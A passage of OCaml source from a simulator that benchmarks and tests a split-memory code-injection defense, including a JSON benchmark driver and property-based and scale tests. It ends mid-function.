    | exception Sys_error _ -> None
    | ic ->
      let rec scan () =
        match input_line ic with
        | exception End_of_file -> None
        | line -> (
          match String.split_on_char ' ' (String.trim line) with
          | [ hash; name ] when name = r -> Some hash
          | _ -> scan ())
      in
      let found = scan () in
      close_in ic;
      found
  in
  match first_line ".git/HEAD" with
  | None -> "unknown"
  | Some head ->
    let head = String.trim head in
    if String.length head > 5 && String.sub head 0 5 = "ref: " then begin
      let r = String.trim (String.sub head 5 (String.length head - 5)) in
      match first_line (".git/" ^ r) with
      | Some rev -> String.trim rev
      | None -> ( match packed_ref r with Some rev -> rev | None -> "unknown")
    end
    else head

(* The trajectory file: every --json run also appends one compact record
   here (git rev + per-benchmark wall-clock), so performance over the
   repo's history accumulates as JSON-lines without any tooling. *)
let trajectory_file = "BENCH_split-memory-bench.json"

let append_trajectory ~bb_speedups ~scale_ratio ~serve_knees results (stats : Fleet.stats) =
  let module J = Obs.Json in
  let module H = Workload.Harness in
  let benchmarks =
    List.mapi
      (fun i r ->
        let label, defense =
          match r with
          | Ok (res : H.result) -> (res.label, res.defense)
          | Error (e : Fleet.error) -> (e.label, "error")
        in
        J.Obj
          [
            ("label", J.Str label);
            ("defense", J.Str defense);
            ("wall_us", J.Int stats.job_us.(i));
          ])
      results
  in
  let record =
    J.Obj
      [
        ("schema", J.Str "split-memory-bench-trajectory/1");
        ("rev", J.Str (git_rev ()));
        ("jobs", J.Int !jobs);
        ("bbcache", J.Bool !Kernel.Machine.bbcache_default);
        (* on/off wall-clock ratio per gated workload, so the block-cache
           dividend is tracked across revisions alongside the raw numbers *)
        ("bbcache_speedup", J.Obj (List.map (fun (n, s) -> (n, J.Float s)) bb_speedups));
        (* 10k-vs-100 per-process wall ratio, so scheduler/loader scaling
           is tracked across revisions alongside the raw numbers *)
        ("scale_per_proc_ratio", J.Float scale_ratio);
        (* per-defense serving knee (concurrency, req/Mcyc), so the
           throughput-under-load curve is tracked across revisions *)
        ( "serve_knees",
          J.Obj
            (List.map
               (fun (name, (knee, tput)) ->
                 (name, J.Obj [ ("knee", J.Int knee); ("tput", J.Float tput) ]))
               serve_knees) );
        ("fleet_wall_us", J.Int stats.wall_us);
        ("benchmarks", J.List benchmarks);
      ]
  in
  let oc = open_out_gen [ Open_append; Open_creat ] 0o644 trajectory_file in
  output_string oc (J.to_string record);
  output_char oc '\n';
  close_out oc;
  out "appended run record to %s" trajectory_file

let json_bench file =
  let module J = Obs.Json in
  let module F = Workload.Figures in
  let module H = Workload.Harness in
  let module G = Workload.Guests in
  let obs = Obs.create () in
  let specs =
    List.concat_map
      (fun defense ->
        [
          F.apache_spec ~defense ~size:32768 ~requests:25;
          F.apache_spec ~defense ~size:1024 ~requests:25;
          F.gzip_spec ~defense ~size:(48 * 1024);
          F.ctxsw_spec ~defense ~iters:250;
          H.single ~defense (G.nbench ~iters:60 ());
          H.single ~defense (G.syscall_bench ~iters:2500 ());
          H.single ~defense (G.pipe_throughput ~iters:800 ());
          H.single ~defense (G.spawn_bench ~iters:60 ());
          H.single ~defense (G.fscopy ~passes:3 ~size:(24 * 1024) ());
        ])
      [ Defense.unprotected; Defense.split_standalone ]
  in
  let results, stats = H.run_fleet_stats ~obs ~jobs:!jobs specs in
  let result_json wall_us = function
    | Ok (r : H.result) ->
      J.Obj
        [
          ("label", J.Str r.label);
          ("defense", J.Str r.defense);
          ("cycles", J.Int r.cycles);
          ("insns", J.Int r.insns);
          ("traps", J.Int r.traps);
          ("split_faults", J.Int r.split_faults);
          ("single_steps", J.Int r.single_steps);
          ("ctx_switches", J.Int r.ctx_switches);
          ("peak_frames", J.Int r.peak_frames);
          ("itlb_misses", J.Int r.itlb_misses);
          ("dtlb_misses", J.Int r.dtlb_misses);
          ("wall_us", J.Int wall_us);
        ]
    | Error (e : Fleet.error) ->
      J.Obj
        [ ("label", J.Str e.label); ("error", J.Str e.reason); ("wall_us", J.Int wall_us) ]
  in
  let runs = List.mapi (fun i r -> result_json stats.job_us.(i) r) results in
  let fleet_json =
    J.Obj
      [
        ("jobs", J.Int stats.jobs);
        ("failures", J.Int stats.failures);
        ("workers", J.Int stats.workers);
        ("wall_us", J.Int stats.wall_us);
        ("speedup", J.Float stats.speedup);
        ("job_us", J.List (Array.to_list (Array.map (fun us -> J.Int us) stats.job_us)));
      ]
  in
  let alloc_json =
    J.Obj
      (List.map
         (fun (n, v) -> (n ^ "_minor_words_per_insn", J.Float v))
         (alloc_numbers ()))
  in
  let inject_json =
    let seed = 7 in
    let verdicts = Inject.campaign ~obs ~jobs:!jobs (Inject.default_plans ~seed ()) in
    let detected, masked, escaped, clean = Inject.tally verdicts in
    J.Obj
      [
        ("seed", J.Int seed);
        ("plans", J.Int (List.length verdicts));
        ( "injected",
          J.Int (List.fold_left (fun a (v : Inject.verdict) -> a + v.v_injected) 0 verdicts)
        );
        ("detected", J.Int detected);
        ("masked", J.Int masked);
        ("escaped", J.Int escaped);
        ("clean", J.Int clean);
        ( "verdicts",
          J.List
            (List.map
               (fun (v : Inject.verdict) ->
                 J.Obj
                   [
                     ("plan", J.Str v.v_label);
                     ("scenario", J.Str v.v_scenario);
                     ("classes", J.Str v.v_classes);
                     ("outcome", J.Str (Inject.outcome_name v.v_outcome));
                     ("injected", J.Int v.v_injected);
                     ("detections", J.Int v.v_detections);
                     ("cycles_base", J.Int v.v_base_cycles);
                     ("cycles", J.Int v.v_cycles);
                   ])
               verdicts) );
      ]
  in
  let matrix_json =
    let cells = Reuse.Campaign.matrix ~jobs:!jobs () in
    J.Obj
      [
        ("check", J.Bool (Reuse.Campaign.check cells));
        ( "cells",
          J.List
            (List.map
               (fun (c : Reuse.Campaign.cell) ->
                 J.Obj
                   [
                     ("attack", J.Str c.attack);
                     ("defense", J.Str c.defense);
                     ( "outcome",
                       J.Str
                         (match c.result with
                         | Ok o -> Attack.Runner.outcome_name o
                         | Error e -> "error: " ^ e) );
                     ("expected_escape", J.Bool c.expected);
                     ("ok", J.Bool (Reuse.Campaign.cell_ok c));
                   ])
               cells) );
      ]
  in
  let bb_measures =
    List.map (fun (name, spec) -> (name, bbcache_measure spec)) (bbcache_specs ())
  in
  let scale_per100, scale_per10k, scale_ratio = scale_gate_measure () in
  let scale_json =
    J.Obj
      [
        ( "grid",
          J.List
            (List.map
               (fun (_, (r : H.result)) ->
                 J.Obj
                   [
                     ("label", J.Str r.label);
                     ("cycles", J.Int r.cycles);
                     ("insns", J.Int r.insns);
                     ("ctx_switches", J.Int r.ctx_switches);
                     ("peak_frames", J.Int r.peak_frames);
                   ])
               (scale_results ())) );
        ("per_proc_us_100", J.Float scale_per100);
        ("per_proc_us_10k", J.Float scale_per10k);
        ("per_proc_ratio", J.Float scale_ratio);
      ]
  in
  let bbcache_json =
    J.Obj
      (("enabled", J.Bool !Kernel.Machine.bbcache_default)
      :: List.map
           (fun (name, (us_on, us_off, (st : Hw.Bbcache.stats), ipb)) ->
             ( name,
               J.Obj
                 [
                   ("wall_us_on", J.Int us_on);
                   ("wall_us_off", J.Int us_off);
                   ("speedup", J.Float (float_of_int us_off /. float_of_int us_on));
                   ("hits", J.Int st.hits);
                   ("misses", J.Int st.misses);
                   ("invalidations", J.Int st.invalidations);
                   ("blocks_built", J.Int st.blocks_built);
                   ("insns_per_block", J.Float ipb);
                 ] ))
           bb_measures)
  in
  let serve_sweep =
    Serve.Sweep.run ~jobs:!jobs ~concurrencies:[ 1; 2; 4; 8; 16 ] ~reps:2 ~requests:12 ()
  in
  let int_opt = function Some v -> J.Int v | None -> J.Null in
  let serve_json =
    J.Obj
      [
        ("model", J.Str (Serve.Loadgen.model_name serve_sweep.Serve.Sweep.model));
        ("requests_per_client", J.Int serve_sweep.Serve.Sweep.requests);
        ( "concurrencies",
          J.List (List.map (fun c -> J.Int c) serve_sweep.Serve.Sweep.concurrencies) );
        ( "curves",
          J.List
            (List.map
               (fun (cv : Serve.Sweep.curve) ->
                 J.Obj
                   [
                     ("defense", J.Str cv.name);
                     ("knee_concurrency", J.Int cv.knee_concurrency);
                     ("peak_tput", J.Float cv.peak);
                     ("knee_tput", J.Float cv.knee_throughput);
                     ("p50", int_opt cv.knee_lat.Serve.Latency.p50);
                     ("p95", int_opt cv.knee_lat.Serve.Latency.p95);
                     ("p99", int_opt cv.knee_lat.Serve.Latency.p99);
                     ("p999", int_opt cv.knee_lat.Serve.Latency.p999);
                     ( "points",
                       J.List
                         (List.map
                            (fun (c, (o : Serve.outcome)) ->
                              J.Obj
                                [ ("c", J.Int c); ("tput", J.Float o.Serve.throughput) ])
                            cv.points) );
                   ])
               serve_sweep.Serve.Sweep.curves) );
      ]
  in
  let doc =
    J.Obj
      [
        ("schema", J.Str "split-memory-bench/8");
        ("jobs", J.Int !jobs);
        ("benchmarks", J.List runs);
        ("fleet", fleet_json);
        ("alloc", alloc_json);
        ("inject", inject_json);
        ("matrix", matrix_json);
        ("bbcache", bbcache_json);
        ("scale", scale_json);
        ("serve", serve_json);
        ("metrics", Obs.Metrics.to_json (Obs.snapshot obs));
      ]
  in
  let oc = open_out file in
  output_string oc (J.to_string doc);
  output_char oc '\n';
  close_out oc;
  out "wrote %s" file;
  append_trajectory
    ~bb_speedups:
      (List.map
         (fun (n, (us_on, us_off, _, _)) -> (n, float_of_int us_off /. float_of_int us_on))
         bb_measures)
    ~scale_ratio
    ~serve_knees:
      (List.map
         (fun (cv : Serve.Sweep.curve) ->
           (cv.name, (cv.knee_concurrency, cv.knee_throughput)))
         serve_sweep.Serve.Sweep.curves)
    results stats

(* --- driver -------------------------------------------------------------- *)

let all_reproduction () =
  table1 ();
  table2 ();
  fig5 ();
  fig6 ();
  fig7 ();
  fig8 ();
  fig9 ();
  ablation ();
  limitations ();
  matrix_exp ()

let () =
  let args = List.tl (Array.to_list Sys.argv) in
  (* Strip -j/--jobs N and --no-bbcache (position-independent) before
     dispatching. --no-bbcache must land before any machine is built —
     including the worker domains', which read the default at spawn. *)
  let rec strip_jobs = function
    | [] -> []
    | "--no-bbcache" :: rest ->
      Kernel.Machine.bbcache_default := false;
      strip_jobs rest
    | ("-j" | "--jobs") :: n :: rest -> (
      match int_of_string_opt n with
      | Some v when v >= 1 ->
        jobs := v;
        strip_jobs rest
      | Some _ | None ->
        Fmt.epr "-j needs a positive integer, got %S@." n;
        exit 1)
    | [ ("-j" | "--jobs") ] ->
      Fmt.epr "-j needs a worker-count argument@.";
      exit 1
    | x :: rest -> x :: strip_jobs rest
  in
  let args = strip_jobs args in
  let dispatch = function
    | "table1" -> table1 ()
    | "table2" -> table2 ()
    | "fig5" -> fig5 ()
    | "fig6" -> fig6 ()
    | "fig7" -> fig7 ()
    | "fig8" -> fig8 ()
    | "fig9" -> fig9 ()
    | "ablation" -> ablation ()
    | "limitations" -> limitations ()
    | "matrix" -> matrix_exp ()
    | "micro" -> micro ()
    | "bbcache" -> bbcache_exp ()
    | "scale" -> scale_exp ()
    | "serve" -> serve_exp ()
    | "profile" -> profile_exp ()
    | "snap" -> snap_exp ()
    | "alloc" -> alloc ()
    | "calib" -> calib ()
    | "all" -> all_reproduction ()
    | other -> Fmt.epr "unknown experiment %S@." other
  in
  let rec run = function
    | [] -> ()
    | "--json" :: file :: rest ->
      json_bench file;
      run rest
    | [ "--json" ] ->
      Fmt.epr "--json needs a FILE argument@.";
      exit 1
    | "--alloc-gate" :: file :: rest ->
      alloc_gate file;
      run rest
    | [ "--alloc-gate" ] ->
      Fmt.epr "--alloc-gate needs a BASELINE argument@.";
      exit 1
    | "--throughput-gate" :: file :: rest ->
      throughput_gate file;
      run rest
    | [ "--throughput-gate" ] ->
      Fmt.epr "--throughput-gate needs a BASELINE argument@.";
      exit 1
    | "--serve-gate" :: file :: rest ->
      serve_gate file;
      run rest
    | [ "--serve-gate" ] ->
      Fmt.epr "--serve-gate needs a BASELINE argument@.";
      exit 1
    | "--scale-gate" :: r :: rest -> (
      match float_of_string_opt r with
      | Some max_ratio when max_ratio > 0. ->
        scale_gate max_ratio;
        run rest
      | Some _ | None ->
        Fmt.epr "--scale-gate needs a positive ratio, got %S@." r;
        exit 1)
    | [ "--scale-gate" ] ->
      Fmt.epr "--scale-gate needs a RATIO argument@.";
      exit 1
    | x :: rest ->
      dispatch x;
      run rest
  in
  match args with [] -> all_reproduction () | args -> run args
