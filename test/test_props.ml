(* Property-based tests (qcheck, registered as alcotest cases). *)

open QCheck

(* --- generators ------------------------------------------------------------ *)

let gen_reg = Gen.oneofl Isa.Reg.all
let gen_imm32 = Gen.int_range 0 0xFFFFFFFF
let gen_disp = Gen.int_range (-0x80000000) 0x7FFFFFFF
let gen_shift = Gen.int_range 0 255
let gen_rel = gen_disp

let gen_instr : Isa.Insn.t Gen.t =
  let open Gen in
  let open Isa.Insn in
  oneof
    [
      return Nop;
      return Hlt;
      return Ret;
      map2 (fun r i -> Mov_ri (r, i)) gen_reg gen_imm32;
      map2 (fun a b -> Mov_rr (a, b)) gen_reg gen_reg;
      map3 (fun a b d -> Load (a, b, d)) gen_reg gen_reg gen_disp;
      map3 (fun b d s -> Store (b, d, s)) gen_reg gen_disp gen_reg;
      map3 (fun a b d -> Loadb (a, b, d)) gen_reg gen_reg gen_disp;
      map3 (fun b d s -> Storeb (b, d, s)) gen_reg gen_disp gen_reg;
      map (fun r -> Push r) gen_reg;
      map (fun r -> Pop r) gen_reg;
      map3 (fun a b d -> Lea (a, b, d)) gen_reg gen_reg gen_disp;
      map2 (fun a b -> Add (a, b)) gen_reg gen_reg;
      map2 (fun a b -> Sub (a, b)) gen_reg gen_reg;
      map2 (fun r i -> Add_ri (r, i)) gen_reg gen_disp;
      map2 (fun a b -> Cmp (a, b)) gen_reg gen_reg;
      map2 (fun r i -> Cmp_ri (r, i)) gen_reg gen_disp;
      map2 (fun a b -> And_ (a, b)) gen_reg gen_reg;
      map2 (fun a b -> Or_ (a, b)) gen_reg gen_reg;
      map2 (fun a b -> Xor (a, b)) gen_reg gen_reg;
      map2 (fun a b -> Mul (a, b)) gen_reg gen_reg;
      map2 (fun r i -> Shl (r, i)) gen_reg gen_shift;
      map2 (fun r i -> Shr (r, i)) gen_reg gen_shift;
      map (fun d -> Jmp (Rel d)) gen_rel;
      map (fun d -> Jz (Rel d)) gen_rel;
      map (fun d -> Jnz (Rel d)) gen_rel;
      map (fun d -> Jl (Rel d)) gen_rel;
      map (fun d -> Jge (Rel d)) gen_rel;
      map (fun r -> Jmp_r r) gen_reg;
      map (fun d -> Call (Rel d)) gen_rel;
      map (fun r -> Call_r r) gen_reg;
      map (fun n -> Int n) (Gen.int_range 0 255);
    ]

let arb_instr = make ~print:Isa.Insn.to_string gen_instr

(* --- properties ------------------------------------------------------------ *)

let prop_encode_decode_roundtrip =
  Test.make ~name:"encode/decode roundtrip" ~count:2000 arb_instr (fun insn ->
      let bytes = Isa.Encode.to_string insn in
      String.length bytes = Isa.Insn.size insn
      && match Isa.Decode.of_string bytes 0 with Ok i -> i = insn | Error _ -> false)

let prop_program_roundtrip =
  Test.make ~name:"program layout and sequential decode" ~count:200
    (make Gen.(list_size (int_range 1 40) gen_instr))
    (fun instrs ->
      let prog = List.map (fun i -> Isa.Asm.I i) instrs in
      let a = Isa.Asm.assemble ~origin:0 prog in
      let total = List.fold_left (fun acc i -> acc + Isa.Insn.size i) 0 instrs in
      String.length a.code = total
      &&
      let rec decode_all pos acc =
        if pos >= total then List.rev acc
        else
          match Isa.Decode.of_string a.code pos with
          | Ok i -> decode_all (pos + Isa.Insn.size i) (i :: acc)
          | Error _ -> List.rev acc
      in
      decode_all 0 [] = instrs)

let prop_sign_mask =
  Test.make ~name:"sign32/mask32 agreement" ~count:1000
    (make Gen.(int_range (-0x80000000) 0x7FFFFFFF))
    (fun x ->
      let m = Isa.Encode.mask32 x in
      Isa.Decode.sign32 m = x && Isa.Encode.mask32 m = m)

type tlb_op = Insert of int * int | Invalidate of int | Flush | Lookup of int

let gen_tlb_op =
  Gen.(
    oneof
      [
        map2 (fun v f -> Insert (v, f)) (int_range 0 30) (int_range 1 100);
        map (fun v -> Invalidate v) (int_range 0 30);
        return Flush;
        map (fun v -> Lookup v) (int_range 0 30);
      ])

let prop_tlb_capacity =
  Test.make ~name:"tlb never exceeds capacity; latest insert wins" ~count:500
    (make Gen.(list_size (int_range 1 200) gen_tlb_op))
    (fun ops ->
      let tlb = Hw.Tlb.create ~name:"prop" ~capacity:8 () in
      let model = Hashtbl.create 16 in
      List.for_all
        (fun op ->
          (match op with
          | Insert (v, f) ->
            Hw.Tlb.insert tlb { vpn = v; frame = f; user = true; writable = true; nx = false };
            Hashtbl.replace model v f
          | Invalidate v ->
            Hw.Tlb.invalidate tlb v;
            Hashtbl.remove model v
          | Flush ->
            Hw.Tlb.flush tlb;
            Hashtbl.reset model
          | Lookup v -> ignore (Hw.Tlb.lookup tlb v));
          Hw.Tlb.size tlb <= 8
          &&
          (* anything cached must agree with the model (eviction may drop
             entries, but never corrupt them) *)
          Hashtbl.fold
            (fun v f ok ->
              ok
              &&
              match Hw.Tlb.peek tlb v with
              | Some e -> e.frame = f
              | None -> true)
            model true)
        ops)

let prop_signature =
  Test.make ~name:"signature verifies and detects tampering" ~count:300
    (make Gen.(pair (list_size (int_range 1 5) string_small) small_nat))
    (fun (parts, flip) ->
      let s = Kernel.Signature.sign parts in
      Kernel.Signature.verify parts s
      &&
      match parts with
      | [] -> true
      | first :: rest when String.length first > 0 ->
        let i = flip mod String.length first in
        let tampered =
          String.mapi
            (fun j c -> if j = i then Char.chr (Char.code c lxor 1) else c)
            first
        in
        not (Kernel.Signature.verify (tampered :: rest) s)
      | _ -> true)

let prop_pipe_fifo =
  Test.make ~name:"pipe preserves byte order and bounds" ~count:300
    (make Gen.(list_size (int_range 1 30) (pair string_small (int_range 1 64))))
    (fun chunks ->
      let pipe = Kernel.Pipe.create ~capacity:128 ~name:"prop" () in
      let written = Buffer.create 64 and read = Buffer.create 64 in
      List.iter
        (fun (s, rd) ->
          let n = Kernel.Pipe.write pipe s in
          Buffer.add_string written (String.sub s 0 n);
          Buffer.add_string read (Kernel.Pipe.read pipe ~max:rd))
        chunks;
      Buffer.add_string read (Kernel.Pipe.drain pipe);
      Kernel.Pipe.level pipe = 0 && Buffer.contents read = Buffer.contents written)

(* Split-page invariant: no sequence of kernel/user data writes can alter
   the code copy. *)
let prop_split_writes_never_touch_code_copy =
  Test.make ~name:"data writes never reach the code copy" ~count:100
    (make Gen.(list_size (int_range 1 30) (pair (int_range 0 4000) (int_range 0 255))))
    (fun writes ->
      let k = Kernel.Os.create ~protection:(Split_memory.protection ()) () in
      let image =
        Kernel.Image.build ~name:"prop"
          ~code:(fun ~lbl:_ -> Isa.Asm.[ L "main"; I Nop ] @ Guest.sys_exit 0)
          ~entry:"main" ()
      in
      let p = Kernel.Os.spawn k image in
      let base = Kernel.Layout.heap_base in
      List.iter
        (fun (off, v) -> Kernel.Os.copy_to_user k p (base + off) (String.make 1 (Char.chr v)))
        writes;
      match Kernel.Aspace.pte p.aspace (base / 4096) with
      | Some ({ split = Some s; _ } : Kernel.Pte.t) ->
        Hw.Phys.to_string (Kernel.Os.phys k) ~frame:s.code_frame
        = String.make 4096 '\000'
      | _ -> false)

let suite =
  List.map QCheck_alcotest.to_alcotest
    [
      prop_encode_decode_roundtrip;
      prop_program_roundtrip;
      prop_sign_mask;
      prop_tlb_capacity;
      prop_signature;
      prop_pipe_fifo;
      prop_split_writes_never_touch_code_copy;
    ]

(* Differential test of CPU semantics: a random straight-line register
   program is executed both by the simulator and by a direct OCaml
   interpretation of the ISA's documented semantics; the full 32-bit
   result must agree. *)

let gen_dest_reg =
  (* never write esp: the result-dump epilogue needs a valid stack *)
  Gen.oneofl (List.filter (fun r -> r <> Isa.Reg.ESP) Isa.Reg.all)

let reg_instr_gen : Isa.Insn.t Gen.t =
  let open Gen in
  let open Isa.Insn in
  oneof
    [
      map2 (fun r i -> Mov_ri (r, i)) gen_dest_reg gen_imm32;
      map2 (fun a b -> Mov_rr (a, b)) gen_dest_reg gen_reg;
      map2 (fun a b -> Add (a, b)) gen_dest_reg gen_reg;
      map2 (fun a b -> Sub (a, b)) gen_dest_reg gen_reg;
      map2 (fun r i -> Add_ri (r, i)) gen_dest_reg gen_disp;
      map2 (fun a b -> And_ (a, b)) gen_dest_reg gen_reg;
      map2 (fun a b -> Or_ (a, b)) gen_dest_reg gen_reg;
      map2 (fun a b -> Xor (a, b)) gen_dest_reg gen_reg;
      map2 (fun a b -> Mul (a, b)) gen_dest_reg gen_reg;
      map2 (fun r i -> Shl (r, i)) gen_dest_reg (Gen.int_range 0 31);
      map2 (fun r i -> Shr (r, i)) gen_dest_reg (Gen.int_range 0 31);
      map3 (fun d b i -> Lea (d, b, i)) gen_dest_reg gen_reg gen_disp;
    ]

let reference_interp instrs =
  let open Isa.Insn in
  let mask = Isa.Encode.mask32 in
  let regs = Array.make 8 0 in
  regs.(Isa.Reg.to_int Isa.Reg.ESP) <- Kernel.Layout.initial_esp;
  let g r = regs.(Isa.Reg.to_int r) in
  let s r v = regs.(Isa.Reg.to_int r) <- mask v in
  List.iter
    (fun insn ->
      match insn with
      | Mov_ri (d, i) -> s d i
      | Mov_rr (d, src) -> s d (g src)
      | Add (d, src) -> s d (g d + g src)
      | Sub (d, src) -> s d (g d - g src)
      | Add_ri (d, i) -> s d (g d + i)
      | And_ (d, src) -> s d (g d land g src)
      | Or_ (d, src) -> s d (g d lor g src)
      | Xor (d, src) -> s d (g d lxor g src)
      | Mul (d, src) -> s d (g d * g src)
      | Shl (d, i) -> s d (g d lsl (i land 31))
      | Shr (d, i) -> s d (g d lsr (i land 31))
      | Lea (d, b, i) -> s d (g b + i)
      | _ -> assert false)
    instrs;
  regs

let prop_cpu_differential =
  Test.make ~name:"cpu agrees with reference semantics" ~count:150
    (make Gen.(list_size (int_range 1 25) reg_instr_gen))
    (fun instrs ->
      (* keep esp valid for the simulator's stack (not used by these ops) *)
      let expected = reference_interp instrs in
      (* the guest writes all 8 registers to a data buffer and prints it *)
      let image =
        Kernel.Image.build ~name:"diff"
          ~data:(fun ~lbl:_ -> Isa.Asm.[ L "out"; Space 32 ])
          ~code:(fun ~lbl ->
            let open Isa.Asm in
            (L "main" :: List.map (fun i -> I i) instrs)
            @ List.concat
                (List.mapi
                   (fun idx r ->
                     if r = Isa.Reg.ESP || r = Isa.Reg.EBP then []
                     else
                       [
                         I (Push EBP);
                         I (Mov_ri (EBP, lbl "out"));
                         I (Store (EBP, idx * 4, r));
                         I (Pop EBP);
                       ])
                   Isa.Reg.all)
            @ Guest.sys_write_imm ~buf:(lbl "out") ~len:32 ()
            @ Guest.sys_exit 0)
          ~entry:"main" ()
      in
      let k = Kernel.Os.create ~protection:(Split_memory.protection ()) () in
      let p = Kernel.Os.spawn k image in
      ignore (Kernel.Os.run k);
      let dump = Kernel.Os.read_stdout k p in
      String.length dump = 32
      && List.for_all
           (fun r ->
             r = Isa.Reg.ESP || r = Isa.Reg.EBP
             ||
             let idx = Isa.Reg.to_int r in
             let b i = Char.code dump.[(idx * 4) + i] in
             let v = b 0 lor (b 1 lsl 8) lor (b 2 lsl 16) lor (b 3 lsl 24) in
             v = expected.(idx))
           Isa.Reg.all)

let suite = suite @ [ QCheck_alcotest.to_alcotest prop_cpu_differential ]

(* The decoder is total: any byte string either decodes or reports a
   structured error — it never raises. *)
let prop_decoder_total =
  Test.make ~name:"decoder never raises on junk" ~count:500
    (make Gen.(string_size (int_range 1 16)))
    (fun junk ->
      match Isa.Decode.of_string junk 0 with Ok _ | Error _ -> true)

(* The whole simulator is deterministic: running the same workload twice
   yields identical cycle counts and event logs. *)
let prop_determinism =
  Test.make ~name:"simulation is deterministic" ~count:10
    (make Gen.(int_range 3 20))
    (fun iters ->
      let run () =
        let k = Kernel.Os.create ~protection:(Split_memory.protection ()) () in
        let ping = Kernel.Os.spawn k (Workload.Guests.ctxsw_ping ~iters ()) in
        let pong = Kernel.Os.spawn k (Workload.Guests.ctxsw_pong ()) in
        Kernel.Os.connect k ping pong;
        ignore (Kernel.Os.run k);
        ((Kernel.Os.cost k).cycles, List.length (Kernel.Event_log.to_list (Kernel.Os.log k)))
      in
      run () = run ())

let suite =
  suite
  @ List.map QCheck_alcotest.to_alcotest [ prop_decoder_total; prop_determinism ]
