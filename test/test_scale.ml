(* Scale-out invariants: deterministic pid-sorted iteration, the paired
   free list's failure atomicity, loader-COW frame sharing, and replay
   determinism through allocator exhaustion. *)

module H = Workload.Harness
module G = Workload.Guests

let check = Alcotest.check
let int_list = Alcotest.(list int)

(* --- pid-sorted iteration ------------------------------------------------- *)

(* [Machine.procs] and [children_of] promise pid-ascending order — that
   ordering is what makes every scan (wake recheck, snapshot export,
   all-zombie sweeps) independent of hash-table layout. *)
let test_pid_sorted_iteration () =
  let k =
    Kernel.Os.create ~protection:(Defense.to_protection Defense.unprotected) ()
  in
  let img = G.scale_unit ~rounds:1 () in
  let spawned = List.init 10 (fun _ -> (Kernel.Os.spawn k img).pid) in
  let m = Kernel.Os.machine k in
  let pids () = List.map (fun (p : Kernel.Proc.t) -> p.pid) (Kernel.Machine.procs m) in
  check int_list "spawn order is pid order" spawned (pids ());
  check int_list "procs iterate pid-ascending" (List.sort compare (pids ())) (pids ());
  let parent = Option.get (Kernel.Machine.proc m 3) in
  let c1 = Kernel.Machine.do_fork m parent in
  let c2 = Kernel.Machine.do_fork m parent in
  check int_list "children_of is pid-ascending" [ c1; c2 ]
    (List.map
       (fun (p : Kernel.Proc.t) -> p.pid)
       (Kernel.Machine.children_of m parent));
  check int_list "procs stay sorted after forks" (List.sort compare (pids ())) (pids ())

(* --- paired free list: failure leaves ordering untouched ------------------- *)

(* Fragment physical memory so only odd frames are free (no adjacent
   even/even+1 pair exists), then attempt [alloc_pair]. The failed attempt
   must not disturb the free set: the subsequent single-frame allocation
   sequence is identical to a control allocator that never tried. *)
let test_alloc_pair_failure_ordering () =
  let fragmented () =
    let phys = Hw.Phys.create ~frames:16 () in
    let a = Kernel.Frame_alloc.create phys in
    let all = List.init 15 (fun _ -> Kernel.Frame_alloc.alloc a) in
    check int_list "allocation is lowest-first" (List.init 15 (fun i -> i + 1)) all;
    List.iter
      (fun f -> if f mod 2 = 1 then Kernel.Frame_alloc.decref a f)
      all;
    a
  in
  let drain a = List.init 8 (fun _ -> Kernel.Frame_alloc.alloc a) in
  let control = fragmented () in
  let tried = fragmented () in
  (match Kernel.Frame_alloc.alloc_pair tried with
  | _ -> Alcotest.fail "alloc_pair found a pair in pairless memory"
  | exception Kernel.Frame_alloc.Out_of_frames -> ());
  check int_list "failed alloc_pair preserves allocation order" (drain control)
    (drain tried);
  (* And with a pair available, it is the lowest adjacent one. *)
  let a = fragmented () in
  Kernel.Frame_alloc.decref a 6;
  Kernel.Frame_alloc.decref a 10;
  let even, odd = Kernel.Frame_alloc.alloc_pair a in
  check int_list "lowest adjacent pair wins" [ 6; 7 ] [ even; odd ];
  check int_list "singles resume below the taken pair" [ 1; 3; 5; 9 ]
    (List.init 4 (fun _ -> Kernel.Frame_alloc.alloc a))

(* --- loader COW: shared image frames -------------------------------------- *)

(* quantum < guest length keeps all N guests resident at once; under the
   mixed-only policy nothing in scale_unit splits, so with sharing on the
   image frames are machine-global: peak frames must be flat in N, and
   far below the unshared machine's N x working-set. *)
let scale_spec ~share n =
  H.spec
    ~label:(Fmt.str "scale-%d" n)
    ~quantum:32 ~share_images:share ~defense:Defense.split_mixed_plus_nx
    (List.init n (fun _ -> H.guest (G.scale_unit ~rounds:2 ())))

let test_shared_frames_sublinear () =
  let peak n share = (H.run (scale_spec ~share n)).peak_frames in
  let p2 = peak 2 true and p16 = peak 16 true in
  let u16 = peak 16 false in
  check Alcotest.int "shared peak is flat in N" p2 p16;
  if u16 < 8 * p16 then
    Alcotest.failf "unshared peak %d not ~16x the shared %d" u16 p16;
  (* identical cost counters either way: sharing is invisible to the
     deterministic cost model, it only changes physical layout *)
  let r_s = H.run (scale_spec ~share:true 16) in
  let r_u = H.run (scale_spec ~share:false 16) in
  check Alcotest.int "cycles unchanged by sharing" r_u.cycles r_s.cycles;
  check Alcotest.int "ctx switches unchanged by sharing" r_u.ctx_switches
    r_s.ctx_switches

(* --- replay determinism: restore rebuilds the share registry --------------- *)

(* The share registry is derived state, cleared by the allocator import; a
   restored machine must re-share (Machine.rebuild_shares) or its
   post-restore allocations diverge from the original run. Checkpoint a
   shared-image machine mid-run and replay it. *)
let test_replay_rebuilds_shares () =
  let build () =
    let defense = Defense.split_mixed_plus_nx in
    let k =
      Kernel.Os.create ~frames:512 ~quantum:32
        ~tlb_fill:(Defense.tlb_fill defense) ~share_images:true
        ~protection:(Defense.to_protection defense) ()
    in
    let img = G.scale_unit ~rounds:2 () in
    for _ = 1 to 40 do
      ignore (Kernel.Os.spawn k img : Kernel.Proc.t)
    done;
    k
  in
  let report, _snap = Snap.Replay.check ~fuel_to_checkpoint:800 (build ()) in
  if not (Snap.Replay.ok report) then
    Alcotest.failf "shared-image replay diverged: %a" Snap.Replay.pp report

(* Same property through an OOM storm: too many all-pages guests for the
   frame budget, so the run is dominated by Out_of_frames containment
   (oom kills). Which processes die depends on exact allocation order —
   the strongest probe that a restored allocator + share registry resumes
   the original frame-for-frame sequence. *)
let test_replay_through_oom () =
  let build () =
    let defense = Defense.split_standalone in
    let k =
      Kernel.Os.create ~frames:96 ~quantum:32
        ~tlb_fill:(Defense.tlb_fill defense) ~share_images:true
        ~protection:(Defense.to_protection defense) ()
    in
    let img = G.scale_unit ~rounds:2 () in
    for _ = 1 to 16 do
      ignore (Kernel.Os.spawn k img : Kernel.Proc.t)
    done;
    k
  in
  (* sanity: this workload actually exhausts frames *)
  let k = build () in
